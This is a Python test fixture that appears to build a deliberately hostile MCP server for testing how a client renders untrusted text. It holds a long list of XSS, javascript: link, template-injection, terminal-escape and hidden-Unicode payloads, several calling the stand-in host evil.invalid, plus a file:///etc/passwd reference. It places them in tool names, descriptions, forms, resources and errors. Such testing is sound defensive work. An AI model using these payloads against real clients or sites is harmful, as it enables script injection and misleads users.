"""Texts that a hostile server would send, and a server that puts them wherever a server can put a text.

Each text that could run sets `window.pwned`, opens a dialog, or asks `evil.invalid` for something.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from mcp.server.mcpserver import Context, MCPServer
from mcp.types import CallToolResult, EmbeddedResource, ResourceLink, TextContent, TextResourceContents

ROOT = Path(__file__).parents[1]
EVIL = "evil.invalid"

TEXTS: tuple[str, ...] = (
    # elements that run or fetch
    "<script>window.pwned=1</script>",
    "<ScRiPt>window.pwned=1</sCrIpT>",
    "<script src=https://evil.invalid/a.js></script>",
    "</script><script>window.pwned=1</script>",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "<img src=x onerror=window.pwned=1>",
    "<img src=https://evil.invalid/a.png>",
    '"><img src=x onerror="window.pwned=1">',
    "'><img src=x onerror='window.pwned=1'>",
    "`><img src=x onerror=`window.pwned=1`>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img/src/onerror=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:window.pwned=1'><text y=20>press</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "<iframe src=javascript:window.pwned=1></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe src=https://evil.invalid/></iframe>",
    "<object data=https://evil.invalid/a.swf></object>",
    "<embed src=https://evil.invalid/a.swf>",
    "<video src=x onerror=window.pwned=1></video>",
    "<audio src=https://evil.invalid/a.mp3 autoplay></audio>",
    "<details open ontoggle=window.pwned=1>more</details>",
    "<body onload=window.pwned=1>",
    "<marquee onstart=window.pwned=1>moving</marquee>",
    "<input autofocus onfocus=window.pwned=1>",
    "<button onclick=window.pwned=1>press me</button>",
    "<form action=https://evil.invalid/><button>send</button></form>",
    "<link rel=stylesheet href=https://evil.invalid/a.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<base href=https://evil.invalid/>",
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.invalid/a.css';</style>",
    "<div style='position:fixed;inset:0;background:red'>covers all</div>",
    "<template><img src=x onerror=window.pwned=1></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<!--><img src=x onerror=window.pwned=1>-->",
    "<![CDATA[><img src=x onerror=window.pwned=1>]]>",
    "<?xml version='1.0'?><x onclick='window.pwned=1'/>",
    # links
    "<a href='javascript:window.pwned=1'>press me</a>",
    "<a href=https://evil.invalid/ target=_top>press me</a>",
    "[press me](javascript:window.pwned=1)",
    "[press me](https://evil.invalid/)",
    "![picture](https://evil.invalid/a.png)",
    "<https://evil.invalid/autolink>",
    "javascript:window.pwned=1",
    "data:text/html,<script>parent.pwned=1</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    # what other renderers read
    "# A heading\n\n**bold** `code`",
    "```html\n<script>window.pwned=1</script>\n```",
    "$x^2 + \\frac{1}{2}$",
    "$$\\href{javascript:window.pwned=1}{press}$$",
    "\\(\\unicode{x41}\\) and \\[\\int_0^1 x\\]",
    "\\begin{equation}x=1\\end{equation}",
    "{{constructor.constructor('window.pwned=1')()}}",
    "${window.pwned=1} <%= 7*7 %> {%7*7%} #{7*7}",
    "%s %d %n {0} {name} %(x)s",
    # entities and escapes
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.pwned=1&#62;",
    "&amp;lt;b&amp;gt; &nbsp;&copy;&#0;",
    "\\u003cimg src=x onerror=window.pwned=1\\u003e",
    "\\x3cscript\\x3ewindow.pwned=1\\x3c/script\\x3e",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
    "color:red;background:url(https://evil.invalid/a.png)",
    "\\3c script\\3e expression(window.pwned=1)",
    # characters that a terminal or a page obeys
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.invalid/\x07link\x1b]8;;\x07",
    "\x1b[2J\x1b[H\x1b]0;title\x07 cleared",
    "back\b\b\b\bspace \x00 null \x07 bell \x7f",
    "\u202egnp.exe\u202c reversed \u2066isolate\u2069",
    "zero\u200bwidth \u200djoiner \ufeffmark \u2060word",
    "\u2028line\u2029paragraph\x85next\x0bvertical\x0cform",
    "tags \U000e0041\U000e0042 hidden",
    "Z̴̡̢̛̗̘̙̜̝̞̟̠̣̤̥̦̩̪̫̬̭̮̯̰̱̲̳̹̺̻̼ͅa̴l̴g̴o̴",
    "ＦＵＬＬ ｗｉｄｔｈ ＜script＞",
    "very long " + "x" * 50_000,
    "very deep " + "<b>" * 2_000,
)


def server() -> MCPServer:
    """Make the server."""
    evil = MCPServer(TEXTS[5], title=TEXTS[12], instructions="\n".join(TEXTS))
    for number, text in enumerate(TEXTS):
        tool = _result(text)
        evil.add_tool(tool, name=f"t{number}", title=text, description=text, structured_output=False)
    for tool in (texts, patterns, options, refused, everything, parts, fails):
        evil.add_tool(tool, description="\n\n".join(TEXTS), structured_output=False)
    return evil


def _result(text: str) -> Any:
    async def result() -> str:
        return text

    return result


async def _asked(ctx: Context, message: str, schema: dict[str, Any]) -> str:
    answer = await ctx.session.elicit_form(message, schema, related_request_id=ctx.request_id)
    return json.dumps(answer.model_dump(mode="json"))


async def texts(ctx: Context) -> str:
    """Ask with a line for each text: its name, its title, its description, its default."""
    properties = {
        f"{text[:200]} {number}": {
            "type": "string",
            "title": text,
            "description": text,
            "default": text,
            "placeholder": text,
        }
        for number, text in enumerate(TEXTS)
    }
    return await _asked(ctx, "\n".join(TEXTS), {"type": "object", "properties": properties})


async def patterns(ctx: Context) -> str:
    """Ask for what fits each text as a pattern, a format, an example; none of them is given."""
    properties = {
        f"p{number}": {"type": "string", "pattern": text, "format": text, "examples": [text], "default": "(none)"}
        for number, text in enumerate(TEXTS)
    }
    return await _asked(ctx, "Match.", {"type": "object", "properties": properties})


async def options(ctx: Context) -> str:
    """Ask with each text as an option, in every control that has options."""
    properties: dict[str, Any] = {}
    for kind, size in (("radio", 6), ("dropdown", 15), ("search", len(TEXTS))):
        for start in range(0, len(TEXTS), size):
            chosen = [{"const": f"{start}-{i}", "title": text} for i, text in enumerate(TEXTS[start : start + size])]
            properties[f"{kind}{start}"] = {"type": "string", "oneOf": chosen}
    for kind, size in (("boxes", 15), ("list", len(TEXTS))):
        for start in range(0, len(TEXTS), size):
            properties[f"{kind}{start}"] = {"type": "array", "items": {"enum": [*TEXTS[start : start + size]]}}
    return await _asked(ctx, "Choose.", {"type": "object", "properties": properties})


async def refused(ctx: Context) -> str:
    """Ask what can't be drawn."""
    properties = {text: {"type": "object", "description": text} for text in TEXTS}
    return await _asked(ctx, "\n".join(TEXTS), {"type": "object", "properties": properties})


async def everything() -> CallToolResult:
    """Give all texts back, as content and as structured content."""
    rows = [{"text": text, "number": number, text[:100]: text} for number, text in enumerate(TEXTS)]
    content = [TextContent(text=text) for text in TEXTS]
    return CallToolResult(content=[*content], structured_content={"rows": rows, **{text: text for text in TEXTS}})


async def parts() -> CallToolResult:
    """Give all texts back in links to resources, in Markdown, in a table and in a tree."""
    links = [ResourceLink(uri=text, name=text, title=text, description=text, mime_type=text) for text in TEXTS]
    words = "\n\n".join(text for text in TEXTS if len(text) < 5_000)
    guide = TextResourceContents(uri="x:y", mime_type="text/markdown", text=words)
    rows = TextResourceContents(
        uri="x:y", mime_type="application/json", text=json.dumps([{"text": [t]} for t in TEXTS])
    )
    files = [EmbeddedResource(resource=guide), EmbeddedResource(resource=rows)]
    tree = {"tree": {text: {text: text} for text in TEXTS}}
    return CallToolResult(content=[*links, *files], structured_content=tree)


async def fails() -> CallToolResult:
    """Report a failure, in the words of all texts."""
    return CallToolResult(content=[TextContent(text=text) for text in TEXTS], is_error=True)
